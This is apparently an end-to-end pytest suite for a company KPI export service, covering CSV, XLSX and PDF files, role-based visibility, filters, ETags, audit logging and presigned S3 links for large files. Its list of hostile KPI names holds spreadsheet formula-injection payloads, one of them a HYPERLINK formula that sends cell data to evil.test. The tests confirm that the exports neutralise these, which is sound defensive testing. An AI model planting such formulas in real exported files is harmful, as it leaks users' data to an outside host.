"""The company's KPIs as files: three roles, three formats, hostile names, large ones at another address."""

import csv
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO
from urllib.parse import urlsplit

import httpx
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from local.aws import REGION
from local.running_stack import RunningStack
from tests.e2e.client import Client
from tests.e2e.conftest import Found, SignIn

HOSTILE = (
    '=HYPERLINK("https://evil.test/?x="&A1,"click")',
    "+1+1",
    "@SUM(1)",
    "－1+1",
    "\u200b=1+1",
    "a;=1+1",
    'one\nline, two "lines"',
    "<b>Bold</b> & </para>",
)
PLAIN = "Średni czas odpowiedzi – 平均応答時間"
NAMES = (PLAIN, *HOSTILE)
MEDIA_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "pdf": "application/pdf",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
ROLES = ("ada", "max", "una")


@dataclass(frozen=True)
class World:
    """A company with a KPI for each name, in their order; the first one has a value, a target and a grant."""

    clients: Mapping[str, Client]
    today: date


@pytest.fixture(scope="module")
def world(found_company: Found, sign_in: SignIn) -> World:
    ada = found_company("exporting", currency="PLN")
    ada.create_user("Max", "max@exporting.test", role="manager")
    una = ada.create_user("Una", "una@exporting.test")
    today = datetime.now(UTC).date()
    ids = [
        ada.define(
            f"kpi_{number}", {"type": "manual"}, name=name, unit="currency", precision=2, category="sales"
        )
        for number, name in enumerate(NAMES)
    ]
    for kpi in ids:
        ada.assign_to_company(kpi["id"], target_value=100, start_date=today.replace(day=1).isoformat())
    first = ids[0]["id"]
    ada.post(f"/kpis/{first}/values", {"value": -12.5, "period_date": today.isoformat()})
    grant = {"can_view": True, "can_edit": False, "can_set_targets": False}
    ada.put(f"/kpis/{first}/permissions/{una['id']}", grant)
    clients = {"ada": ada, **{name: sign_in(f"{name}@exporting.test") for name in ("max", "una")}}
    return World(clients, today)


def of_csv(content: bytes) -> Iterator[list[str]]:
    _, *rows = csv.reader(StringIO(content.decode("utf-8-sig"), newline=""), strict=True)
    yield from rows


def of_xlsx(content: bytes) -> Iterator[list[object]]:
    book = load_workbook(BytesIO(content))
    cells = [cell for row in book["KPIs"] for cell in row]
    assert not any(cell.data_type == "f" or cell.hyperlink for cell in cells)
    _, *rows = book["KPIs"].iter_rows(values_only=True)
    yield from map(list, rows)
    book.close()


def text_of_pdf(content: bytes) -> str:
    return "".join(page.extract_text() for page in PdfReader(BytesIO(content), strict=True).pages)


READERS: Mapping[str, Callable[[bytes], Iterator[list[object]]]] = {"csv": of_csv, "xlsx": of_xlsx}  # type: ignore[dict-item]  # each cell of a CSV file is text


@pytest.mark.parametrize("kind", MEDIA_TYPES)
def test_a_file_is_one_to_save_under_the_name_of_the_day(world: World, kind: str) -> None:
    answer = world.clients["ada"].call("GET", f"/exports/kpis.{kind}")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == MEDIA_TYPES[kind]
    assert answer.headers["content-disposition"] == f'attachment; filename="kpis-{world.today}.{kind}"'


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("kind", READERS)
def test_a_file_has_the_rows_of_the_callers_list_in_its_order(world: World, kind: str, role: str) -> None:
    client = world.clients[role]
    rows = list(READERS[kind](client.call("GET", f"/exports/kpis.{kind}").content))
    listed = client.all_of("kpis", "/kpis", limit=2)
    assert len(rows) == len(listed) == len(NAMES)
    assert [row[-1] == "locked" for row in rows] == [kpi["locked"] for kpi in listed]
    assert [row[1] or None for row in rows] == [kpi.get("key") for kpi in listed]
    for row, kpi in zip(rows, listed, strict=True):
        if kpi["locked"]:
            assert [each or None for each in row[3:-1]] == [None] * 10


def test_an_admin_has_every_number_a_manager_none_and_a_user_what_was_granted(world: World) -> None:
    shown = {
        role: [
            row[1] for row in of_csv(world.clients[role].call("GET", "/exports/kpis.csv").content) if row[6]
        ]
        for role in ROLES
    }
    assert shown == {"ada": ["kpi_0"], "max": [], "una": ["kpi_0"]}


@pytest.mark.parametrize("role", ["ada", "una"])
def test_a_granted_row_has_value_target_and_status(world: World, role: str) -> None:
    client = world.clients[role]
    first, *_ = of_csv(client.call("GET", "/exports/kpis.csv").content)
    day = world.today.isoformat()
    assert first[:10] == [PLAIN, "kpi_0", "sales", "daily", day, day, "-12.5", "PLN", "100", "0"]
    assert first[10:] == ["critical", "", "", "open"]
    cells, *_ = of_xlsx(client.call("GET", "/exports/kpis.xlsx").content)
    assert (cells[0], cells[6], cells[8]) == (PLAIN, -12.5, 100)
    assert all(
        each in text_of_pdf(client.call("GET", "/exports/kpis.pdf").content)
        for each in ("−12.50", "critical")
    )


def test_hostile_names_are_harmless_in_every_format(world: World) -> None:
    ada = world.clients["ada"]
    content = ada.call("GET", "/exports/kpis.csv").content
    names = [row[0] for row in of_csv(content)]
    assert content.count(b"\r\n") == content.count(b"\n") == len(NAMES) + 1
    assert [name.lstrip("\u200b")[:1] in "=+-@－" for name in names] == [False] * len(NAMES)
    assert names[6] == "a;'=1+1"
    assert [row[0] for row in of_xlsx(ada.call("GET", "/exports/kpis.xlsx").content)] == list(NAMES)
    drawn = text_of_pdf(ada.call("GET", "/exports/kpis.pdf").content)
    assert "<b>Bold</b> & </para>" in drawn.replace("\n", " ")


def test_filters_are_those_of_the_list(world: World) -> None:
    ada = world.clients["ada"]
    for query, count in (("category=sales", len(NAMES)), ("category=finance", 0), ("period=weekly", 0)):
        assert len(list(of_csv(ada.call("GET", f"/exports/kpis.csv?{query}").content))) == count


@pytest.mark.parametrize("query", ["category=gardening", "period=hourly", "limit=5", "cursor=1"])
def test_a_strange_filter_is_refused(world: World, query: str) -> None:
    answer = world.clients["ada"].call("GET", f"/exports/kpis.csv?{query}")
    assert answer.status_code == 400, answer.text
    assert answer.json()["code"] == "invalid_parameter"


@pytest.mark.parametrize("name", ["kpis.docx", "kpis", "users.csv", "kpis.csv.exe"])
def test_there_is_no_file_of_another_name(world: World, name: str) -> None:
    assert world.clients["ada"].call("GET", f"/exports/{name}").status_code == 404


@pytest.mark.parametrize("kind", MEDIA_TYPES)
def test_the_same_numbers_are_not_sent_again(world: World, kind: str) -> None:
    ada = world.clients["ada"]
    first = ada.call("GET", f"/exports/kpis.{kind}")
    again = ada.call("GET", f"/exports/kpis.{kind}", headers={"if-none-match": first.headers["etag"]})
    assert (again.status_code, again.content) == (304, b"")


def test_an_export_is_in_the_audit_log_of_its_company(world: World) -> None:
    world.clients["una"].call("GET", "/exports/kpis.xlsx?category=sales")
    entry, *_ = world.clients["ada"].get("/audit", limit=1)["entries"]
    assert entry["action"] == "kpis.exported"
    assert entry["actor"]["name"] == "Una"
    assert entry["after"] == {"format": "xlsx", "filters": {"category": "sales"}, "rows": Decimal(len(NAMES))}


LETTERS = "".join(chr(0x4E00 + number) for number in range(600))
"""Each takes a third of a kilobyte in a PDF."""


def fill(admin: Client) -> None:
    """Give a company few KPIs whose PDF is larger than the stack puts into an answer."""
    for start in range(0, len(LETTERS), 200):
        kpi = admin.define(f"kpi_{start}", {"type": "manual"}, name=LETTERS[start : start + 200])
        admin.assign_to_company(kpi["id"], start_date="2026-01-01")


@contextmanager
def without_bucket(stack: RunningStack) -> Iterator[None]:
    """The bucket for large files is away."""
    s3, bucket = stack.aws.s3, stack.refs["ExportsBucket"]
    for each in s3.list_objects_v2(Bucket=bucket).get("Contents", []):
        s3.delete_object(Bucket=bucket, Key=each["Key"])
    s3.delete_bucket(Bucket=bucket)
    yield
    s3.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": REGION})


def test_a_large_file_waits_for_minutes_at_an_address_that_nobody_can_guess(
    found_company: Found, stack: RunningStack
) -> None:
    ada = found_company("plenty")
    fill(ada)
    answer = ada.call("GET", "/exports/kpis.pdf")
    assert (answer.status_code, answer.content) == (303, b"")
    address = answer.headers["location"]
    company = ada.me()["company"]["id"]
    assert f"/company/{company}/" in urlsplit(address).path
    assert "X-Amz-Expires=300" in address
    with httpx.Client() as http:
        file = http.get(address)  # without a token
    assert file.headers["content-type"] == MEDIA_TYPES["pdf"]
    assert file.headers["content-disposition"].startswith('attachment; filename="kpis-')
    assert set(LETTERS) <= set(text_of_pdf(file.content))
    stored = stack.aws.s3.list_objects_v2(Bucket=stack.refs["ExportsBucket"], Prefix=f"company/{company}/")
    assert [each["Size"] for each in stored["Contents"]] == [len(file.content)]
    assert ada.call("GET", "/exports/kpis.csv").status_code == 200


def test_nothing_is_told_to_the_log_of_a_file_that_nobody_got(
    found_company: Found, stack: RunningStack
) -> None:
    ada = found_company("thwarted")
    fill(ada)
    with without_bucket(stack):
        answer = ada.call("GET", "/exports/kpis.pdf")
    assert (answer.status_code, answer.json()["code"]) == (503, "unavailable")
    assert ada.get("/audit", action="kpis.exported")["entries"] == []
    assert ada.call("GET", "/exports/kpis.pdf").status_code == 303
    assert len(ada.get("/audit", action="kpis.exported")["entries"]) == 1
